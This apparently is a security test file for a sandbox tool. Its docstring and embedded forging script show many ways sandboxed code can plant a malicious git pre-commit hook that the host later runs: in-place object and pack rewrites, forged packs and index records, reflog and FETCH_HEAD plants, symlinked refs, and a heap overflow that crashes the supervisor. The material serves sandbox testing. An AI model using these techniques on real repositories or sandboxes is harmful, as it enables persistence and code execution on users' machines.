# SPDX-License-Identifier: MIT
"""A protected hook's content kept in a repository where the end-of-run
check of its objects and history does not look (second round, after the
check hashes new objects and walks the history the run made).

The host's project holds .husky/pre-commit (core.hooksPath = .husky:
protected).  Each test plants, from inside, objects, refs or reflog
lines and no worktree file; the sandbox's git reading its hook where the
host's git will is the control that the plant was made.  Then the host
runs a git command a user runs, then a commit, and the test asserts the
host ran nothing (no mark).

Holes (each FAILS on 9db1456 in every mode of the box fixture, root-ns,
root-nons, user-ns, user-nons, unless noted):
  - test_loose_blob_rewritten_in_place: the loose file of a version of
    the hook the host keeps on another branch (not read at the start:
    neither HEAD's nor the index's) rewritten in place (chmod, then
    opened for writing, not renamed): objects/xx's ctime does not move,
    so scan_loose() passes its directory over, and check_loose() looks
    only at the objects read at protected paths.  `git checkout old`
    writes the sandbox's hook;
  - test_pack_data_rewritten_in_place: the same, with the host's objects
    in the pack of its own `git gc`: the entry's bytes in the .pack
    overwritten in place, the .idx untouched; only the .idx's ctime
    makes a pack's objects checked;
  - test_history_planted_in_an_earlier_run: a commit with the sandbox's
    hook and a harmless one above it, made and left unreferenced in a
    first run (their loose files new then, and genuine: they hash to
    their names); in a second run a commit on top of them moves the
    branch.  The walk stops at the first commit older than the run and
    checks it (harmless); the one below is never read.  The host's `git
    reset --hard HEAD~2` writes the sandbox's hook;
  - test_hook_in_the_head_reflog: the sandbox checks out a commit of its
    own (detached), then goes back to the branch: HEAD and every ref end
    as they were, and the commit is in HEAD's reflog only.  The host's
    `git checkout -` (back to where the last checkout came from), or
    `git reset --hard HEAD@{1}`, checks it out;
  - test_hook_in_the_index_resolve_undo: the index handed back with the
    host's entries and a resolve-undo record (REUC extension, which
    gitlinks.c does not parse) naming the sandbox's hook as both sides of
    a conflict at .husky/pre-commit: `git checkout -m -- FILE` (make the
    conflict again) merges them into the sandbox's hook.  FAILS in every
    mode;
  - test_commit_named_outside_the_refs[fetch-head]: a commit of the
    sandbox's (the host's HEAD its parent) in .git/FETCH_HEAD, which
    githeads.c does not read: `git merge --ff-only FETCH_HEAD` (what `git
    pull` runs after its fetch) fast-forwards the branch to it;
  - test_commit_named_outside_the_refs[bisect-reset]: a bisect left "in
    progress" (BISECT_START holding the commit's id, BISECT_LOG): `git
    bisect reset`, which git status suggests, checks out that commit.
    FAILS without namespaces only (root-nons, user-nons): with them the
    view does not carry BISECT_START back;
  - test_commit_named_outside_the_refs[deep-branch]: a loose branch 17
    directories below refs/ (a/b/.../q): walk_refs() stops at REFS_DEPTH
    (githeads.c:80, 773) without a word; `git checkout a/b/.../q` writes
    the hook.  FAILS in every mode;
  - test_commit_named_outside_the_refs[packed-link]: a branch in
    packed-refs only, .git/packed-refs a symbolic link to a file of the
    worktree: check_packed() maps it following no link, fails, and
    returns (githeads.c, `if (!m) return;`); git follows the link, and
    `git checkout lint` writes the hook.  FAILS without namespaces
    (root-nons, user-nons); with them the view does not carry it back;
  - test_commit_named_outside_the_refs[refs-link]: .git/refs moved away
    and made a symbolic link to a directory of the worktree where the
    branch HEAD is on names the sandbox's commit: githeads_finish() opens
    refs following no link and, failing, walks none; HEAD's file did not
    change, so check_head() does not look either.  git follows the link:
    `git reset --hard` writes the hook.  FAILS without namespaces
    (root-nons, user-nons); with them .git/refs is a mount of the view's
    and cannot be moved;
  - test_large_loose_object_is_not_passed_over: a forged loose copy of
    the other branch's hook, new (renamed in: scan_loose() reads it), over
    64 MiB stored (zlib level 0; the hook, `exit 0`, then padding no shell
    reads): read_loose() returns -E2BIG for a file larger than OBJ_MAX,
    and unchecked() takes that as the budget's, says "run git fsck" and
    keeps it.  `git checkout old` writes it;
  - test_forged_blob_in_a_new_pack_not_read_at_the_start: struct
    gitobj_pack's `listed` ("its .idx made or changed") is never set:
    read_packs() sets `changed` only.  gitobj_end()'s loop over every
    object of a new pack (gitobj.c:983-999) skips every pack, and only
    the objects read at the start are looked up in changed ones.  A
    hand-made pack holding the other branch's hook blob under its name,
    the sandbox's content: `git checkout old` (packs before loose
    objects) writes it.  FAILS in every mode;
  - test_forged_blob_in_a_pack_the_end_does_not_read: read_packs()
    (gitobj.c:228-237) passes over a .idx that is not version 2 without
    moving it aside, and git reads version 1 still: a new pack, its .idx
    version 1, holding HEAD's own hook blob under its name is never seen,
    not even for the objects read at the start; discarding an edit of the
    hook (`git checkout -- .husky/pre-commit`) writes the sandbox's.  The
    same for a .pack or .idx that is a symbolic link (map_stat() opens no
    link; git follows it).  FAILS in every mode;
  - test_history_packed_during_the_run: the same field in
    gitobj_is_new() (gitobj.c:1018): a commit in a pack made during the
    run is not "made during the run".  Round one's commit below the tip,
    then `git repack -ad` (what `git gc` packs): the walk stops at the
    tip, `git reset --hard HEAD~1` writes the hook.  FAILS in every mode;
  - test_index_a_link: .git/index made a symbolic link to a file of the
    worktree holding the sandbox's hook staged: index_bad() opens it
    with gitobj_open_file() (no link followed), fails, and returns "not
    bad" (githeads.c, `if (fd < 0 ...) return false`); git follows the
    link, and `git checkout -- .` writes the hook.  FAILS without
    namespaces (root-nons, user-nons); with them the view does not carry
    the link back;
  - test_sha256_index_read_as_sha1: index_parse() (gitlinks.c:291) tries
    SHA-1's entry layout first and keeps the first that parses whole;
    on_entry() (githeads.c) then passes over every entry whose id is not
    the repository's size.  In a SHA-256 repository, an index staging the
    sandbox's hook, made to parse with SHA-1's layout as well (the blob
    ground, a comment with a number, for three bytes of its id; stat
    fields of the next entry chosen): no entry is judged.  `git checkout
    -- .` writes the hook.  FAILS in every mode; its control,
    test_guard_sha256_index_not_ground (the same index, the blob not
    ground), passes: the index is put back;
  - test_packed_refs_unterminated_last_line: a memory bug.
    remove_packed() (githeads.c:551-584) copies each kept line and a
    newline into malloc(n + 1) (555), then writes kept[kn] = '\\0' (581):
    when no line is dropped and the last line has no newline, kn is
    n + 1, one byte past the buffer.  packed-refs of n % 16 == 7 bytes
    (n > 1032) makes that byte the next heap chunk's size, and free(kept) aborts the
    supervisor ("double free or corruption (!prev)") in the middle of
    walk_refs(): check_packed(), the stash list, ORIG_HEAD and HEAD are
    then never judged (HEAD detached at the sandbox's commit stays).
    FAILS without namespaces (root-nons, user-nons): with them the view
    does not carry such a packed-refs back;
  - test_stash_list_unterminated_last_line: the same bug in
    check_stash_log() (githeads.c:942-1011: malloc(n + 1) at 958,
    kept[kn] = '\\0' at 999), reached when no entry is dropped but an
    OLD field is set back: a stash list of n % 16 == 7 bytes, every entry
    naming HEAD's commit, the last unterminated.  The supervisor dies of
    SIGABRT (exit -6) after the stash list and before ORIG_HEAD and HEAD
    are judged; HEAD detached at the sandbox's commit stays and `git
    reset --hard` writes its hook.  FAILS in every mode.
Guards (pass on 9db1456): test_guard_linked_worktree_is_not_the_sandboxs,
the HEAD and index of the host's linked worktree (.git/worktrees/wt,
which the end does not read) are read-only inside;
test_guard_commit_named_in_judged_places: a rebase's state (moved aside:
`git rebase --abort` finds none), an annotated tag loose or packed (`git
checkout v1.0`), a remote branch (`git checkout feature` making a
tracking branch): judged and set back;
test_guard_loose_blob_read_at_the_start_rewritten_in_place: HEAD's own
hook blob cannot be given write to be rewritten in place;
test_guard_modes_of_ordinary_files_and_new_objects: other files' modes
are the command's, through the mode gate too.
test_guard_sha256_repository: round one's forged loose blob and new
branch in a SHA-256 repository are found too.
Closed since, but one, kept as a strict expected failure (a known limit,
SECURITY.md): test_history_planted_in_an_earlier_run.  The in-place
rewrites (test_loose_blob_rewritten_in_place,
test_pack_data_rewritten_in_place) were known limits with namespaces
until the mode gate (attrgate.c); with it came
test_loose_blob_hard_linked_then_rewritten (the attribute gate judged the
name, and a hard link has another) and
test_in_place_rewrite_without_a_gate_on_modes (no listener to be had:
the end reads every object's time).
"""
import os
import subprocess

import pytest

from test_gitobjects_attacks import (EVIL, FORGE, FORGE_PRELUDE, REFUSED, REWRITE, commit_after,
                                     project)
from test_githistory_attacks import HOOK, INSIDE_GIT
from test_hostfiles_attacks import GIT_ENV, chown_tree, host, husky_project

# Run in the sandbox (cwd: the project): argv[1] the way, argv[2] the
# hook text, argv[3] a revision.  Prints "planted" when its own git reads
# the hook where the host's will.
FORGE2 = FORGE_PRELUDE + r'''
arg = sys.argv[3] if len(sys.argv) > 3 else None


def in_place(path, at, data, truncate):
    """DATA written at AT in PATH's own inode: no new name, its
    directory untouched."""
    mode = os.stat(path).st_mode & 0o7777
    os.chmod(path, mode | 0o200)
    fd = os.open(path, os.O_WRONLY)
    os.pwrite(fd, data, at)
    if truncate:
        os.ftruncate(fd, at + len(data))
    os.close(fd)
    os.chmod(path, mode)


def evil_commit(parent):
    """A commit of HEAD's tree but for .husky/pre-commit: the sandbox's."""
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    sub = git("mktree", data=b"100755 blob %s\tpre-commit\n" % e.encode()).decode().strip()
    body = git("cat-file", "tree", "HEAD^{tree}")
    at = body.index(b" .husky\0") + 8
    root = git("hash-object", "-w", "-t", "tree", "--stdin",
               data=body[:at] + bytes.fromhex(sub) + body[at + 20:]).decode().strip()
    return git("commit-tree", root, "-p", parent, "-m", "lint config").decode().strip()


def pack(objs, v1=False):
    """A pack and version 2 .idx of OBJS [(oid, type, body)] under the
    names given (test_gitobjects_attacks.py's FORGE writes them so)."""
    data, ents, psum, fan = pack_data(objs)
    if v1:
        # version 1 (git reads it still): the fan-out, then offset and
        # name for each
        idx = fan + b"".join(struct.pack(">I", e[2]) + e[0] for e in ents) + psum
        idx += hashlib.sha1(idx).digest()
        ents = []
    else:
        idx = b"\xfftOc" + struct.pack(">I", 2) + fan
    idx += b"".join(e[0] for e in ents)
    if not v1:
        idx += b"".join(struct.pack(">I", e[1]) for e in ents)
        idx += b"".join(struct.pack(">I", e[2]) for e in ents)
        idx += psum
        idx += hashlib.sha1(idx).digest()
    base = ".git/objects/pack/pack-" + psum.hex()
    with open(base + ".pack", "wb") as f:
        f.write(data)
    with open(base + ".idx", "wb") as f:
        f.write(idx)
    return base


name = None
if way == "new-pack-other":
    # a pack of the sandbox's own holding one object: the other branch's
    # hook blob, under its name, with the sandbox's content (git searches
    # packs before loose objects)
    pack([(rev(arg), "blob", evil)])
    name = arg
elif way.startswith("new-pack-"):
    # the same for HEAD's hook blob: the pack's .idx in version 1, or the
    # .pack or .idx a link to a file in the worktree (git follows it)
    base = pack([(rev(arg), "blob", evil)], v1=way == "new-pack-v1")
    for ext in ("pack", "idx"):
        if way == "new-pack-%s-link" % ext:
            with open("%s.%s" % (base, ext), "rb") as f, open("build." + ext, "wb") as g:
                g.write(f.read())
            os.unlink("%s.%s" % (base, ext))
            os.symlink("../../../build.%s" % ext, "%s.%s" % (base, ext))
    # git searches the newest pack first (seconds)
    for n in os.listdir(".git/objects/pack"):
        if n.endswith(".pack"):
            t = os.stat(".git/objects/pack/" + n).st_mtime + 3600
            os.utime(".git/objects/pack/" + n, (t, t))
    name = arg
elif way == "inplace-loose":
    oid = rev(arg)
    path = ".git/objects/%s/%s" % (oid[:2], oid[2:])
    d = os.stat(os.path.dirname(path)).st_ctime_ns
    in_place(path, 0, zlib.compress(b"blob %d\0" % len(evil) + evil), True)
    if os.stat(os.path.dirname(path)).st_ctime_ns != d:
        sys.exit("the directory's ctime moved")
    print("dir ctime kept", flush=True)
    name = arg
elif way == "inplace-link":
    # the same through a hard link of another name in another directory:
    # .git/refs (the same write grant and Landlock rule without
    # namespaces), else the objects directory's top (with namespaces
    # .git/refs is a mount of its own)
    oid = rev(arg)
    path = ".git/objects/%s/%s" % (oid[:2], oid[2:])
    link = None
    for at in (".git/refs/heads/zz-link", ".git/objects/zz-link"):
        try:
            os.link(path, at)
            link = at
            break
        except OSError:
            pass
    if not link:
        sys.exit("no hard link could be made")
    print("linked", link, flush=True)
    try:
        in_place(link, 0, zlib.compress(b"blob %d\0" % len(evil) + evil), True)
    finally:
        os.unlink(link)
    name = arg
elif way == "inplace-pack":
    oid = bytes.fromhex(rev(arg))
    pdir = ".git/objects/pack"
    idx = [n for n in os.listdir(pdir) if n.endswith(".idx")]
    assert len(idx) == 1, idx
    with open(os.path.join(pdir, idx[0]), "rb") as f:
        buf = f.read()
    n = struct.unpack(">I", buf[8 + 255 * 4:8 + 256 * 4])[0]
    ids = [buf[1032 + 20 * i:1052 + 20 * i] for i in range(n)]
    i = ids.index(oid)
    off = struct.unpack(">I", buf[1032 + 24 * n + 4 * i:1032 + 24 * n + 4 * i + 4])[0]
    ends = sorted(struct.unpack(">I", buf[1032 + 24 * n + 4 * j:1032 + 24 * n + 4 * j + 4])[0]
                  for j in range(n))
    pack = os.path.join(pdir, idx[0][:-4] + ".pack")
    nxt = [o for o in ends if o > off]
    room = (nxt[0] if nxt else os.path.getsize(pack) - 20) - off
    sz, c = len(evil), 0x30 | (len(evil) & 15)
    hdr, sz = b"", sz >> 4
    while sz:
        hdr += bytes([c | 0x80])
        c, sz = sz & 0x7f, sz >> 7
    rec = hdr + bytes([c]) + zlib.compress(evil, 9)
    if len(rec) > room:
        sys.exit("no room: %d > %d" % (len(rec), room))
    in_place(pack, off, rec, False)
    name = arg
elif way == "earlier-run-1":
    # a commit with the hook, a harmless one above it: no ref names them
    e = evil_commit("HEAD")
    h = git("commit-tree", rev("HEAD^{tree}"), "-p", e, "-m", "tidy").decode().strip()
    print("top", h, flush=True)
    name = h + "~1:.husky/pre-commit"
elif way == "earlier-run-2":
    c = git("commit-tree", rev("HEAD^{tree}"), "-p", arg, "-m", "more").decode().strip()
    git("update-ref", "HEAD", c)
    name = "HEAD~2:.husky/pre-commit"
elif way == "reflog":
    # what `git checkout --detach E && git checkout -` leaves in HEAD's
    # reflog (the worktree's hook, read-only, keeps git itself from
    # writing it that way): HEAD and every ref as they were
    e = evil_commit("HEAD")
    h, b = rev("HEAD"), git("symbolic-ref", "--short", "HEAD").decode().strip()
    with open(".git/logs/HEAD", "a") as f:
        f.write("%s %s t <t@x> 1700000000 +0000\tcheckout: moving from %s to %s\n"
                % (h, e, b, e))
        f.write("%s %s t <t@x> 1700000001 +0000\tcheckout: moving from %s to %s\n"
                % (e, h, e, b))
    name = "@{-1}:.husky/pre-commit"
elif way == "large-loose":
    # the hook, then padding no shell reads (it exits first) to over 64
    # MiB, stored (zlib level 0): a loose file larger than the reader
    # takes whole, under a new name (a rename: its directory's ctime moves)
    oid = rev(arg)
    body = evil + b"exit 0\n" + b"#" * (65 << 20) + b"\n"
    path = ".git/objects/%s/%s" % (oid[:2], oid[2:])
    with open(path + ".tmp", "wb") as f:
        f.write(zlib.compress(b"blob %d\0" % len(body) + body, 0))
    os.replace(path + ".tmp", path)
    name = arg
    if git("cat-file", "-p", name) == body:
        print("planted", flush=True)
elif way == "worktree-head":
    # the host's linked worktree's HEAD (in .git/worktrees/NAME, the
    # sandbox's to write) detached at a commit of the sandbox's
    e = evil_commit("HEAD")
    with open(".git/worktrees/%s/HEAD" % arg, "w") as f:
        f.write(e + "\n")
    name = e + ":.husky/pre-commit"
elif way == "worktree-index":
    # the host's linked worktree's index: the sandbox's hook staged there
    b = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    os.environ["GIT_INDEX_FILE"] = ".git/worktrees/%s/index" % arg
    git("update-index", "--cacheinfo", "100755,%s,.husky/pre-commit" % b)
    name = ":.husky/pre-commit"
elif way == "pointer":
    # a commit of the sandbox's named where a host command reads it
    e = evil_commit("HEAD")
    h, b = rev("HEAD"), git("symbolic-ref", "HEAD").decode().strip()
    if arg == "fetch-head":
        with open(".git/FETCH_HEAD", "w") as f:
            f.write("%s\t\tbranch 'main' of https://example.com/r\n" % e)
    elif arg == "rebase-abort":
        # a rebase left in progress, its start (orig-head) the sandbox's
        os.mkdir(".git/rebase-merge")
        for k, v in (("head-name", b), ("onto", h), ("orig-head", e), ("interactive", ""),
                     ("git-rebase-todo", ""), ("done", "pick %s x\n" % h), ("end", "1"),
                     ("msgnum", "1")):
            with open(".git/rebase-merge/" + k, "w") as f:
                f.write(v + "\n" if v else "")
    elif arg.startswith("bisect-reset"):
        # a bisect the host finds in progress (git status says so): where
        # `git bisect reset` goes back to, a commit id in BISECT_START
        # (abbreviated: git resolves it as a revision)
        with open(".git/BISECT_START", "w") as f:
            f.write((e[:12] if arg.endswith("abbrev") else e) + "\n")
        with open(".git/BISECT_LOG", "w") as f:
            f.write("git bisect start\n")
        with open(".git/BISECT_TERMS", "w") as f:
            f.write("bad\ngood\n")
    elif arg == "deep-branch":
        # a loose branch 17 directories below refs/
        git("update-ref", "refs/heads/" + "/".join("abcdefghijklmnopq"), e)
    elif arg == "packed-link":
        # a branch in packed-refs only, packed-refs a link to a file of
        # the worktree (git follows it)
        git("update-ref", "refs/heads/lint", e)
        git("pack-refs", "--all")
        with open(".git/packed-refs", "rb") as f, open("build-refs", "wb") as g:
            g.write(f.read())
        os.unlink(".git/packed-refs")
        os.symlink("../build-refs", ".git/packed-refs")
    elif arg == "refs-link":
        # .git/refs a link to a directory of the worktree, where the
        # branch HEAD is on names the sandbox's commit (git follows it)
        import shutil
        shutil.copytree(".git/refs", "build-refs", symlinks=True)
        with open(os.path.join("build-refs", b[5:]), "w") as f:
            f.write(e + "\n")
        try:
            os.rename(".git/refs", ".git/refs-was")
        except OSError as x:
            # (the view's own mount there, with namespaces)
            sys.exit("refs not moved: %s" % x)
        os.symlink("../build-refs", ".git/refs")
    elif arg == "tag":
        git("tag", "-a", "-m", "release", "v1.0", e)
    elif arg == "tag-packed":
        git("tag", "-a", "-m", "release", "v1.0", e)
        git("pack-refs", "--all")
    elif arg == "remote":
        git("update-ref", "refs/remotes/origin/feature", e)
    name = e + ":.husky/pre-commit"
elif way == "packed-unterminated":
    # a branch of the sandbox's, loose, with its hook and no parent: the
    # end removes it, then looks for its line in packed-refs
    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    sub = git("mktree", data=b"100755 blob %s\tpre-commit\n" % e.encode()).decode().strip()
    body = git("cat-file", "tree", "HEAD^{tree}")
    at = body.index(b" .husky\0") + 8
    root = git("hash-object", "-w", "-t", "tree", "--stdin",
               data=body[:at] + bytes.fromhex(sub) + body[at + 20:]).decode().strip()
    c = git("commit-tree", root, "-m", "lint config").decode().strip()
    git("update-ref", "refs/heads/lint", c)
    if git("cat-file", "-p", "lint:.husky/pre-commit") == evil:
        print("planted", flush=True)
    # HEAD detached at a commit with the hook (judged last, in
    # check_head())
    d = evil_commit("HEAD")
    with open(".git/HEAD", "w") as f:
        f.write(d + "\n")
    # packed-refs naming other refs, its last line with no newline, its
    # size N such that malloc(N + 1) has no slack (N % 16 == 7) and is
    # no tcache chunk (N > 1032)
    h = rev("HEAD")
    lines = ["# pack-refs with: peeled fully-peeled sorted "]
    i = 0
    while sum(len(l) + 1 for l in lines) < 1200:
        lines.append("%s refs/tags/t%04d" % (h, i))
        i += 1
    text = "\n".join(lines)
    pad = (7 - len(text)) % 16
    text = text[:-(4 + 0)] + "x" * pad + text[-4:] if pad else text
    assert len(text) % 16 == 7 and not text.endswith("\n")
    with open(".git/packed-refs", "w") as f:
        f.write(text)
elif way == "reuc":
    # the index as it was, with a resolve-undo record (REUC extension:
    # what a merge's conflict at that path was before it was resolved)
    # naming the sandbox's hook as both sides
    import hashlib
    b = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    base = rev("HEAD:.husky/pre-commit")
    with open(".git/index", "rb") as f:
        buf = f.read()
    rec = (b".husky/pre-commit\0" + b"100755\0" * 3 + bytes.fromhex(base) +
           bytes.fromhex(b) * 2)
    out = buf[:-20] + b"REUC" + struct.pack(">I", len(rec)) + rec
    out += hashlib.sha1(out).digest()
    with open(".git/index.rf-tmp", "wb") as f:
        f.write(out)
    os.replace(".git/index.rf-tmp", ".git/index")
    if git("ls-files", "--resolve-undo").decode().count(b) == 2:
        print("planted", flush=True)
elif way == "staged":
    # the sandbox's hook staged by git itself
    b = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    git("update-index", "--cacheinfo", "100755,%s,.husky/pre-commit" % b)
    name = ":.husky/pre-commit"
elif way == "index-link":
    # the sandbox's hook staged, then the index made a link to a file of
    # the worktree holding it (git follows it)
    b = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
    git("update-index", "--cacheinfo", "100755,%s,.husky/pre-commit" % b)
    with open(".git/index", "rb") as f, open("build-index", "wb") as g:
        g.write(f.read())
    os.unlink(".git/index")
    os.symlink("../build-index", ".git/index")
    name = ":.husky/pre-commit"
elif way == "sha256-index":
    # A SHA-256 repository's index that also parses with SHA-1's layout,
    # which index_parse() tries first: under it the entries' names are
    # empty and their ids 20 bytes, none at a protected path, none of
    # this repository's size.  The hook's blob is ground (a comment with
    # a number) so that, read as SHA-1's, its id's bytes 20-21 are the
    # flags (0: a name of no bytes) and byte 22 that name's NUL: the next
    # entry then starts 64 bytes on, its flags and name in the second
    # entry's uid, and the extensions after it in its gid and size.
    import hashlib, itertools
    for nonce in itertools.chain([4054127] if arg == "ground" else [], itertools.count()):
        body = evil + b"# %d\n" % nonce
        d = hashlib.sha256(b"blob %d\0" % len(body) + body).digest()
        # (the control: a blob not ground, the same index)
        if arg == "plain" or d[20] & 0x4f == 0 and d[21] == 0 and d[22] == 0:
            break
    b = git("hash-object", "-w", "--stdin", data=body).decode().strip()
    assert b == d.hex()
    fblob = bytes.fromhex(rev(":f"))

    def entry(mode, oid, name, uid=0, gid=0, size=0):
        e = (b"\0" * 24 + struct.pack(">IIII", mode, uid, gid, size) + oid +
             struct.pack(">H", len(name)) + name)
        return e + b"\0" * (8 - len(e) % 8)

    e0 = entry(0o100755, d, b".husky/pre-commit")
    n = 12 + len(e0) + len(entry(0o100644, fblob, b"f")) + 32
    # the SHA-1 reading's extensions from the second entry's gid on: one
    # (not TREE) up to its checksum's last 20 bytes
    ext_at = 12 + len(e0) + 32
    idx = (b"DIRC" + struct.pack(">II", 2, 2) + e0 +
           entry(0o100644, fblob, b"f", size=n - 20 - ext_at - 8))
    idx += hashlib.sha256(idx).digest()
    with open(".git/index.rf-tmp", "wb") as f:
        f.write(idx)
    os.replace(".git/index.rf-tmp", ".git/index")
    if git("cat-file", "-p", ":.husky/pre-commit") == body:
        print("planted", flush=True)
elif way == "stashlog-unterminated":
    # HEAD detached at a commit with the hook (judged after the stash
    # list, in check_head())
    d = evil_commit("HEAD")
    h = rev("HEAD")
    with open(".git/HEAD", "w") as f:
        f.write(d + "\n")
    # a stash list whose entries all name HEAD's commit (they pass), their
    # OLD fields not as git writes them (so the list is written again),
    # the last line unterminated, N % 16 == 7 and N > 1032 bytes
    lines = ["%s %s t <t@x> 1700000000 +0000\tWIP on main: %04d" % ("1" * 40, h, i)
             for i in range(12)]
    text = "\n".join(lines)
    text = text + "x" * ((7 - len(text)) % 16)
    assert len(text) % 16 == 7 and len(text) > 1032
    os.makedirs(".git/logs/refs", exist_ok=True)
    with open(".git/logs/refs/stash", "w") as f:
        f.write(text)
    name = d + ":.husky/pre-commit"
if name and git("cat-file", "-p", name) == evil:
    print("planted", flush=True)
'''


def commit_after2(box, home, op, name):
    """commit_after, its message short (what git read said in part)."""
    try:
        commit_after(box, home, op, name)
    except AssertionError as e:
        raise AssertionError(str(e)[:400]) from None


def plant2(box, home, way, *extra):
    forge = box.write("bin/forge2.py", FORGE2)
    r = box.run(["/usr/bin/python3", forge, way, EVIL] + list(extra),
                policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
    assert "planted" in r.stdout.split(), r.stdout + r.stderr
    return r


# a version of the hook on a branch of the host's, not HEAD's
OLD = ("git checkout -q -b old && echo '# old: kept for the release branch, where the "
       "lint step still runs the full suite before each commit' >> .husky/pre-commit && "
       "git commit -qam old && git checkout -q -")


def in_place(box, request, home, way, name):
    """WAY, an object of the host's rewritten in its own inode (its mode
    given write first: git makes objects read-only).  The mode is refused,
    in both mechanisms (attrgate.c: the attribute gate without namespaces,
    the mode gate with them): the plant fails, the host's object is
    untouched.  Returns None (the refused plant's run is checked here)."""
    was = host(box, ["git", "cat-file", "-p", name], home, cwd=box.work, env=GIT_ENV)
    forge = box.write("bin/forge2.py", FORGE2)
    r = box.run(["/usr/bin/python3", forge, way, EVIL, name], policy=box.policy(""),
                env=dict(GIT_ENV, HOME=home))
    assert "ran" in r.stdout.split(), r.stdout + r.stderr
    assert "planted" not in r.stdout.split(), r.stdout + r.stderr
    assert "Read-only file system" in r.stderr, r.stderr
    now = host(box, ["git", "cat-file", "-p", name], home, cwd=box.work, env=GIT_ENV)
    assert now.stdout == was.stdout and was.returncode == 0, now.stdout + now.stderr
    return None


def test_loose_blob_rewritten_in_place(box, request):
    """Hole: an existing loose object of the host's, not one read at the
    start, rewritten in its own inode: its fanout directory's ctime does
    not move (the control says so), so the end's scan passes it over."""
    home, _ = project(box)
    h = host(box, ["sh", "-c", OLD], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    in_place(box, request, home, "inplace-loose", "old:.husky/pre-commit")
    commit_after(box, home, "git checkout -q old", "old:.husky/pre-commit")


def test_loose_blob_hard_linked_then_rewritten(box, request):
    """Hole: the same through a hard link of the object (.git/refs, or the
    objects directory's top with namespaces): the attribute gate judged
    the name (beneath .git/objects), and the link has another.  The file
    is now told by its content.  Fails on 78b65a2 in every mode."""
    home, _ = project(box)
    h = host(box, ["sh", "-c", OLD], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    in_place(box, request, home, "inplace-link", "old:.husky/pre-commit")
    commit_after(box, home, "git checkout -q old", "old:.husky/pre-commit")


@pytest.mark.parametrize("way", ["inplace-loose", "inplace-pack"])
def test_in_place_rewrite_without_a_gate_on_modes(box, way):
    """Where no notification listener can be had (one above ringfence, as
    under WSL2: notify_busy), nothing judges the mode: with namespaces the
    mode gate is optional, without them best-effort runs without the
    attribute gate.  The plant is made; the end then reads every loose
    object's time and hashes every pack whose data changed, and takes the
    forged copy away.  Fails on 78b65a2 (with namespaces; without, that
    binary's end hashed neither)."""
    home, _ = project(box)
    setup = OLD + (" && git gc -q" if way == "inplace-pack" else "")
    h = host(box, ["sh", "-c", setup], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    busy = os.path.join(box.bin, "notify_busy")
    pol = box.policy(("[sandbox]\nenforcement = best-effort\n" if box.namespaces == "off"
                      else "") + "[syscalls]\nunix_sockets = deny\n", name="busy.ini")
    forge = box.write("bin/forge2.py", FORGE2)
    r = subprocess.run(box.cmd([busy, box.ringfence, "-p", pol, "--", "/usr/bin/python3",
                                forge, way, EVIL, "old:.husky/pre-commit"]),
                       cwd=box.work, env=box.env(dict(GIT_ENV, HOME=home)),
                       capture_output=True, text=True, timeout=60)
    assert "planted" in r.stdout.split(), r.stdout + r.stderr
    if box.namespaces == "on":
        # the gate's absence is said, not silent
        assert "no seccomp notification listener could be had" in r.stderr, r.stderr
    commit_after(box, home, "git checkout -q old", "old:.husky/pre-commit")


@pytest.mark.parametrize("mode", [0o644, 0o600, 0o000])
def test_guard_modes_of_ordinary_files_and_new_objects(box, mode):
    """Guard: what is no file of an object store keeps its modes, given
    write or read taken away, by path and by fd (the mode gate sees every
    such call with namespaces); a repository's object's read-only mode
    given again passes untouched, and git itself gives none write."""
    home, _ = project(box)
    script = (
        "import os, subprocess, sys\n"
        "open('plain', 'w').write('x')\n"
        "os.chmod('plain', 0o444)\n"
        "os.chmod('plain', %d)\n"
        "os.chmod('plain', 0o644)\n"
        "fd = os.open('plain', os.O_RDONLY)\n"
        "os.fchmod(fd, 0o640)\n"
        "oid = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip()\n"
        "p = '.git/objects/%%s/%%s' %% (oid[:2], oid[2:])\n"
        "os.chmod(p, 0o444) if os.path.exists(p) else None\n"
        "open('g', 'w').write('y')\n"
        "subprocess.check_call(['git', 'add', 'g'])\n"
        "subprocess.check_call(['git', '-c', 'user.name=t', '-c', 'user.email=t@example.test',"
        " 'commit', '-qnm', 'g'])\n"
        "print('modes', oct(os.stat('plain').st_mode & 0o777), flush=True)\n"
    ) % mode
    prog = box.write("bin/modes.py", script)
    r = box.run(["/usr/bin/python3", prog], policy=box.policy(""),
                env=dict(GIT_ENV, HOME=home))
    assert "modes 0o640" in r.stdout, r.stdout + r.stderr
    assert "refused" not in r.stderr, r.stderr
    log = host(box, ["git", "log", "--format=%s", "-1"], home, cwd=box.work, env=GIT_ENV)
    assert log.stdout.strip() == "g", log.stdout + log.stderr


def test_forged_blob_in_a_new_pack_not_read_at_the_start(box):
    """Hole: gitobj_end() means to hash every object of a pack whose .idx
    was made during the run, but struct gitobj_pack's `listed` is never
    set (read_packs() sets `changed` only): the loop over whole packs
    skips each (gitobj.c:985), and only the objects read at the start are
    looked up in changed packs.  A new pack holding the other branch's
    hook blob under its name, the sandbox's content in it: `git checkout
    old` reads the pack first and writes the sandbox's hook."""
    home, _ = project(box)
    h = host(box, ["sh", "-c", OLD], home, cwd=box.work, env=GIT_ENV)
    assert h.returncode == 0, h.stdout + h.stderr
    plant2(box, home, "new-pack-other", "old:.husky/pre-commit")
    commit_after(box, home, "git checkout -q old", "old:.husky/pre-commit")


@pytest.mark.parametrize("form", ["v1", "pack-link", "idx-link"])
def test_forged_blob_in_a_pack_the_end_does_not_read(box, form):
    """Hole: read_packs() (gitobj.c:228-237) passes over an .idx that is
    not version 2 (`continue`: not read, not moved aside), and git still
    reads version 1.  A new pack, its .idx version 1, holding HEAD's own
    hook blob under its name with the sandbox's content: the end never
    sees that copy, and `git checkout -- .husky/pre-commit` after an edit
    (or any command that writes the file) writes the sandbox's hook.
    The same when the .pack or the .idx is a symbolic link (to a file of
    the worktree): map_stat() opens neither, git follows both."""
    home, blob = project(box)
    plant2(box, home, "new-pack-" + form, "HEAD:.husky/pre-commit")
